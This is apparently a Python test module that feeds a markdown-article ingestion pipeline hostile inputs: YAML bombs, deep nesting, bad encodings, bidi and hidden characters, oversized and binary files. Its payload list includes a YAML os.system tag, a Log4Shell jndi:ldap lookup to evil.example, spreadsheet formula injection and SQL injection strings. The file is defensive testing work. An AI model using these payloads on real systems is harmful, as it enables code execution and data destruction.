"""Hostile front matter, encodings and sizes."""

from __future__ import annotations

import json
import random
import struct
import zlib
from collections.abc import Callable

from .case import AFTER, BEFORE, Case, article, keeps, satisfies, titled

BODY = f"{BEFORE}\n\n1. Press the red key.\n2. Wait for a minute.\n\n{AFTER}\n"


def _front(block: str) -> Callable[[], bytes]:
    return lambda: f"---\n{block}\n---\n\n{BODY}".encode()


def _raw(text: str, encoding: str = "utf-8") -> Callable[[], bytes]:
    return lambda: text.encode(encoding, "surrogatepass")


def _alias_bomb(levels: int = 9) -> str:
    first = "a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n"
    return first + "\n".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, levels))


def _merge_bomb(levels: int = 24) -> str:
    lines = ["a0: &a0 {k: v}"]
    lines += [f"a{n}: &a{n}\n  <<: [*a{n - 1}, *a{n - 1}]\n  k{n}: v" for n in range(1, levels)]
    return "\n".join(lines)


YAML = [
    Case("yaml-alias-bomb.md", _front(_alias_bomb()), "reject: front_matter"),
    Case("yaml-merge-key-bomb.md", _front(_merge_bomb()), "reject: front_matter"),
    Case("yaml-recursive-map.md", _front("title: x\na: &a {b: *a}"), "reject: front_matter"),
    Case("yaml-recursive-list.md", _front("title: x\na: &a\n  - *a"), "reject: front_matter"),
    Case("yaml-deep-flow.md", _front("title: x\na: " + "[" * 30_000 + "]" * 30_000), "reject: front_matter"),
    Case("yaml-deep-unclosed.md", _front("title: x\na: " + "[" * 60_000), "reject: front_matter"),
    Case("yaml-deep-blocks.md", _front("title: x\na:\n" + "\n".join(" " * n + "- " for n in range(1, 300))),
         "reject: front_matter"),
    Case("yaml-python-call.md", _front("title: !!python/object/apply:os.system ['true']"), "reject: front_matter"),
    Case("yaml-python-name.md", _front("title: x\nb: !!python/name:os.system"), "reject: front_matter"),
    Case("yaml-python-tuple.md", _front("title: x\nb: !!python/tuple [1, 2]"), "reject: front_matter"),
    Case("yaml-many-entries.md", _front("title: x\ntags: [" + "a, " * 5_000 + "a]"), "reject: front_matter"),
    Case("yaml-200-kB.md", _front("title: x\n" + "key: value\n" * 20_000), "reject: front_matter"),
    Case("yaml-tag-floods.md", _front("title: x\nb: " + "!" * 30_000 + " c"), "accepted"),
    Case("yaml-duplicate-keys.md", _front("title: x\ntitle: y"), "warning: front_matter_duplicate_key",
         (titled("y"),)),
    Case("yaml-many-duplicate-keys.md", _front("title: x\n" + "k: v\n" * 900),
         "warning: front_matter_duplicate_key", (titled("x"),)),
    Case("yaml-unclosed.md", _raw(f"---\ntitle: Unclosed\ntags:\n  - a\n\n{BODY}"),
         "warning: front_matter_repaired", (titled("Unclosed"),)),
    Case("yaml-unclosed-with-rule.md", _raw(f"---\ntitle: Unclosed\n\n## A part\n\n{BODY}\n---\n\nEnd: it is.\n"),
         "warning: front_matter_repaired", (titled("Unclosed"), keeps("A part", "End: it is."))),
    Case("yaml-unclosed-alone.md", _raw("---\ntitle: Nothing else\n"), "reject: no_content"),
    Case("yaml-broken-quotes.md", _front("title: 'A' – \"b\" 'c"), "warning: front_matter_repaired",
         (titled("'A' – \"b\" 'c"),)),
    Case("yaml-impossible-date.md", _front("title: x\ndate: 2024-02-30"), "warning: date_unreadable",
         (satisfies("no date", lambda result: result.article.published_at is None),)),
    Case("yaml-year-zero.md", _front("title: x\ndate: 0000-00-00 00:00:00"), "warning: date_unreadable"),
    Case("yaml-far-dates.md", _front("title: x\ndate: 9999-12-31T23:59:59-23:59\nupdated: 0001-01-01T00:00:00+14:00"),
         "warning: date_unreadable"),
    Case("yaml-huge-integer.md", _front("title: " + "9" * 5_000 + "\nweight: " + "1" * 5_000), "accepted",
         (titled("9" * 5_000),)),
    Case("yaml-odd-values.md", _front("title: x\na: .nan\nb: .inf\nc: 0x1F\nd: 1e999\ne: ~\nf: !!binary aGk=\n"
                                      "g: !!set {a, b}\nh: 12:30:45\ni: 0o17\nj: {1: [2, {3: null}]}"), "accepted"),
    Case("yaml-types-mixed.md", _front("title: [a, {b: c}]\ntags: {x: [1, {y: z}]}\ndate: [2024-01-01]\n"
                                       "description: {a: b}\nthumbnail: [[x.png]]\nkeywords: true"), "accepted"),
    Case("yaml-reserved-keys.md", _front("content: a\nhandler: b\nmetadata: c\n1: d\nnull: e"), "accepted"),
    Case("yaml-escapes.md", _front('title: "a\\0b\\x07c\\ud800d\\u202ee"'), "accepted",
         (satisfies("clean title", lambda result: not set(result.article.title) & set("\0\x07\ud800\u202e")),)),
    Case("yaml-empty-title.md", _front("title:\ndescription:"), "accepted"),
    Case("yaml-long-title.md", _front("title: " + "word " * 12_000), "accepted"),
]  # fmt: skip

OTHER_FRONT_MATTER = [
    Case("toml-deep.md", _raw("+++\na = " + "[" * 20_000 + "\n+++\n" + BODY), "reject: front_matter"),
    Case("toml-long-key.md", _raw(f"+++\ntitle = 'x'\n{'.'.join('a' * 25_000)} = 1\n+++\n" + BODY),
         "warning: front_matter_repaired"),
    Case("toml-huge-integer.md", _raw("+++\ntitle = 'x'\nn = " + "9" * 5_000 + "\nm = 0x" + "f" * 9_000
                                      + "\n+++\n" + BODY), "accepted"),
    Case("toml-odd-values.md", _raw("+++\ntitle = 1979-05-27T07:32:00Z\nb = nan\nc = 07:32:00\nd = [1, 'a']\n+++\n"
                                    + BODY), "accepted"),
    Case("json-deep.md", _raw('{"title": ' + "[" * 30_000 + "]" * 30_000 + "}\n" + BODY), "reject: front_matter"),
    Case("json-surrogates.md", _raw('{"title": "a\\ud800b", "tags": ["\\udfff", "\\u0000"]}\n\n' + BODY),
         "accepted", (titled("a\ufffdb"),)),
    Case("json-huge-integer.md", _raw('{"title": "x", "n": ' + "9" * 50_000 + ', "m": 1e999, "o": NaN}\n' + BODY),
         "accepted"),
    Case("json-unclosed.md", _raw('{\n"title": "x"\n' + BODY), "accepted"),
]  # fmt: skip


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", 64, 64, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", zlib.compress(random.Random(1).randbytes(12_352)))


LATIN = "Größe und Übermaß: déjà vu, señor, naïve café."

ENCODINGS = [
    Case("invalid-utf-8.md", lambda: article("An odd byte here.").replace(b"odd", b"od\xff\xfe\x80d"),
         "warning: decoded_as_windows_1252"),
    Case("latin-1.md", lambda: article(LATIN).decode().encode("latin-1"), "warning: decoded_as_windows_1252",
         (keeps(LATIN),)),
    Case("windows-1252.md", lambda: article("It’s “quoted” – here… 5 €").decode().encode("cp1252"),
         "warning: decoded_as_windows_1252", (keeps("It’s “quoted” – here… 5 €"),)),
    Case("windows-1252-in-utf-8.md", lambda: article("Größe GAP").replace(b"GAP", b"caf\xe9"),
         "warning: decoded_as_windows_1252", (keeps("Größe café"),)),
    Case("windows-1251.md", lambda: article("Перезагрузите телефон. " * 50).decode().encode("cp1251"),
         "reject: encoding"),
    Case("shift-jis.md", lambda: article("電源キーを押します。" * 50).decode().encode("shift-jis"), "reject: encoding"),
    Case("utf-16.md", lambda: article(LATIN).decode().encode("utf-16"), "accepted", (keeps(LATIN),)),
    Case("utf-16-be.md", lambda: b"\xfe\xff" + article(LATIN).decode().encode("utf-16-be"), "accepted",
         (keeps(LATIN),)),
    Case("utf-16-unmarked.md", lambda: article(LATIN).decode().encode("utf-16-le"), "warning: decoded_as_utf_16",
         (keeps(LATIN),)),
    Case("utf-32.md", lambda: article(LATIN).decode().encode("utf-32"), "accepted", (keeps(LATIN),)),
    Case("utf-16-cut-short.md", lambda: article(LATIN).decode().encode("utf-16")[:-1],
         "warning: invalid_bytes_replaced"),
    Case("utf-16-mark-on-utf-8.md", lambda: b"\xff\xfe" + article(LATIN), "warning: invalid_bytes_replaced",
         (keeps(LATIN),)),
    Case("utf-8-mark.md", lambda: b"\xef\xbb\xbf" + article(LATIN), "accepted", (keeps(LATIN),)),
    Case("utf-7.md", lambda: article("+ADw-script+AD4-alert(1)+ADw-/script+AD4-"), "accepted"),
    Case("overlong-utf-8.md", lambda: article("An GAP here.").replace(b"GAP", b"\xc0\xaf\xe0\x80\xaf"),
         "warning: decoded_as_windows_1252"),
    Case("nul-bytes.md", lambda: article("A key.").replace(b" ", b" \0"), "reject: binary"),
    Case("one-nul-byte.md", lambda: article("word " * 500 + "nu\0ll"), "warning: control_characters_removed",
         (keeps("null"),)),
    Case("lone-surrogates.md", lambda: article("Lone \ud800 and \udfff here."), "warning: invalid_bytes_replaced"),
    Case("surrogate-pair.md", lambda: article("A smile \ud83d\ude00 here."), "warning: invalid_bytes_replaced",
         (keeps("A smile 😀 here."),)),
    Case("rtl-override.md", lambda: article("Open gpj.\u202eexe\u202c now \u2066x\u2069."),
         "warning: bidi_controls_removed", (keeps("Open gpj.exe now x."),)),
    Case("rtl-override-as-reference.md", lambda: article("Open gpj.&#x202e;exe <b>now&#8238;</b>&rlm; [x&#x2066;](https://a.example/&#x202e;)."),
         "warning: bidi_controls_removed", (keeps("Open gpj.exe now x."),)),
    Case("hidden-references.md", lambda: article("zero&#8203;width&shy;ness&#7;<ul><li>in&#8203;side</li></ul>"), "accepted",
         (keeps("zerowidthness", "inside"),)),
    Case("carriage-returns-as-references.md", lambda: article("## Pull&#13;it&#10;out\n\n1. Wait&#xd;here.\n\n<p>Or&#13;<b>there&#13;</b></p>",
         'title: "A\\rhostile\\r\\narticle"\ndescription: "It&#13;is\\r"'), "accepted",
         (keeps("Pull it out", "Wait here.", "Or there"), titled("A hostile article"))),
    Case("hidden-tags.md", lambda: article("Press it." + "".join(chr(0xE0000 + ord(c)) for c in "obey me")),
         "warning: hidden_characters_removed", (keeps("Press it."),)),
    Case("terminal-escapes.md", lambda: article("Press \x1b[31mred\x1b[0m \x1b]0;title\x07 now."),
         "warning: control_characters_removed"),
    Case("line-separators.md", lambda: article("a\u2028b\u2029c\x0bd\x0ce\x85f\x1cg\x1eh"), "accepted"),
    Case("mixed-line-ends.md", lambda: article("a\r\nb\rc\n\rd\r\r\ne"), "accepted"),
    Case("only-cr.md", lambda: article(BODY).replace(b"\n", b"\r"), "accepted"),
    Case("zalgo.md", lambda: article("o" + "\u0301\u0323\u0489" * 30_000 + "k"), "warning: combining_marks_cut"),
    Case("zero-width-flood.md", lambda: article("\u200b" * 100_000), "accepted"),
    Case("mojibake-flood.md", lambda: article("itâ€™s Ã©\n" * 20_000), "warning: mojibake_repaired",
         (keeps("it’s é"),)),
    Case("mojibake-twice.md", lambda: article("itÃ¢â‚¬â„¢s"), "warning: mojibake_repaired", (keeps("it’s"),)),
    Case("noncharacters.md", lambda: article("a\ufffeb\uffffc\ufdd0d"), "warning: control_characters_removed"),
    Case("png.md", _png, "reject: binary"),
    Case("elf.md", lambda: b"\x7fELF\x02\x01\x01" + bytes(64) + random.Random(2).randbytes(4_000), "reject: binary"),
    Case("pdf.md", lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + random.Random(3).randbytes(4_000), "reject: binary"),
    Case("random-bytes.md", lambda: random.Random(4).randbytes(50_000), "reject: binary"),
    Case("random-bytes-without-nul.md",
         lambda: random.Random(5).randbytes(50_000).replace(b"\0", b""), "reject: binary"),
]  # fmt: skip

SIZES = [
    Case("empty.md", lambda: b"", "reject: empty"),
    Case("blank.md", lambda: b" \n\t\r\n \n", "reject: empty"),
    Case("only-a-mark.md", lambda: b"\xef\xbb\xbf", "reject: empty"),
    Case("only-invisible.md", lambda: "\u200b\u2060\n\u00ad".encode(), "reject: empty"),
    Case("only-front-matter.md", lambda: b"---\ntitle: x\n---\n", "reject: no_content"),
    Case("one-letter.md", lambda: b"x", "accepted"),
    Case("10-MB-on-one-line.md", lambda: article("x" * 10_000_000), "reject: too_large"),
    Case("1.9-MB-on-one-line.md", lambda: article("word " * 380_000), "reject: line_too_long"),
    Case("150-kB-on-one-line.md", lambda: article("word " * 30_000), "accepted"),
    Case("150-kB-word.md", lambda: article("x" * 150_000), "accepted"),
    Case("200000-lines.md", lambda: article("x\n" * 200_000), "reject: too_many_lines"),
    Case("40000-lines.md", lambda: article("x\n" * 40_000), "accepted"),
    Case("40000-paragraphs.md", lambda: article("x\n\n" * 20_000), "accepted"),
    Case("40000-blank-lines.md", lambda: article("\n" * 40_000), "accepted"),
    Case("1.9-MB-of-prose.md", lambda: article("A line of words that says nothing new.\n\n" * 24_000), "accepted"),
]  # fmt: skip

VALUES = [
    Case(f"formula-{n}.md", _front(f"title: {json.dumps(title)}\ndescription: {json.dumps(title)}"), "accepted",
         (titled(title),))
    for n, title in enumerate(
        ["=HYPERLINK(\"http://evil.example\",\"x\")", "+1+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3", "=1+1\ttab",
         "\"=1+1\"", "a\",\"b", "';DROP TABLE articles;--", "${jndi:ldap://evil.example/a}", "{{7*7}}", "%s%n%x"]
    )
]  # fmt: skip
